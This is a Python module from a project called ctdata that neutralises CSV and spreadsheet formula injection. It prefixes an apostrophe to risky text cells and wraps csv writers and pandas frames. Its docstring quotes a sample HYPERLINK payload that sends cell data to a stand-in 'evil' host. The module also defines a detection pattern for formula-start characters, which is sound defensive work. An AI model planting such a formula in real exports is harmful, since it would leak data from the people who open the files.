"""Cells that a spreadsheet will not run: the one rule every CSV and XLSX writer of ctdata applies.

Why: a spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (or a tab
or carriage return, which some strip first) as a formula. A record id or an agency
name such as ``=HYPERLINK("http://evil/?"&A1)`` in an export would run on the reader's
machine (CSV injection, OWASP). Such a text value is written with a leading
apostrophe, which spreadsheets show as text and never evaluate.

Only text is changed: numbers stay numbers (a negative count or a difference is not
touched), and a text that is just a number (``-3``, ``+1.5e3``) cannot carry a formula
and is kept as it is.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

#: Characters that make a spreadsheet read a cell as a formula.
FORMULA_START = frozenset("=+-@\t\r")
PREFIX = "'"
_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
#: The same rule as a regular expression over a whole text (for columnar writers such as pyarrow's).
UNSAFE_PATTERN = r"^[=+\-@\t\r]"
NUMBER_PATTERN = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"


def is_unsafe(value: object) -> bool:
    """True for a text a spreadsheet would read as a formula."""
    return isinstance(value, str) and value[:1] in FORMULA_START and _NUMBER.fullmatch(value) is None


def safe_cell(value: Any) -> Any:
    """The value to write into a CSV or XLSX cell: unsafe text gets a leading apostrophe, the rest is unchanged."""
    return PREFIX + value if is_unsafe(value) else value


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(v) for v in row]


def safe_frame(df: Any) -> Any:
    """A copy of a pandas DataFrame with `safe_cell` applied to its text columns (numeric columns untouched)."""
    out = df.copy()
    for i, dtype in enumerate(out.dtypes):
        if getattr(dtype, "kind", "") == "O" or str(dtype).startswith("string"):
            col = out.iloc[:, i]
            if col.map(is_unsafe).astype(bool).any():
                out.isetitem(i, col.map(safe_cell))
    return out


class SafeWriter:
    """`csv.writer` with `safe_cell` applied to every cell (same writerow / writerows)."""

    def __init__(self, fh: Any, **kwargs: Any) -> None:
        self._w = csv.writer(fh, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._w.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self._w.writerow(safe_row(row))


def writer(fh: Any, **kwargs: Any) -> SafeWriter:
    """Use instead of `csv.writer` for every CSV ctdata writes."""
    return SafeWriter(fh, **kwargs)


class SafeDictWriter(csv.DictWriter):  # type: ignore[type-arg]
    """`csv.DictWriter` with `safe_cell` applied to every value and to the header."""

    def writeheader(self) -> Any:
        return self.writer.writerow(safe_row(self.fieldnames))

    def writerow(self, rowdict: Any) -> Any:
        return super().writerow({k: safe_cell(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Any) -> None:
        for r in rowdicts:
            self.writerow(r)
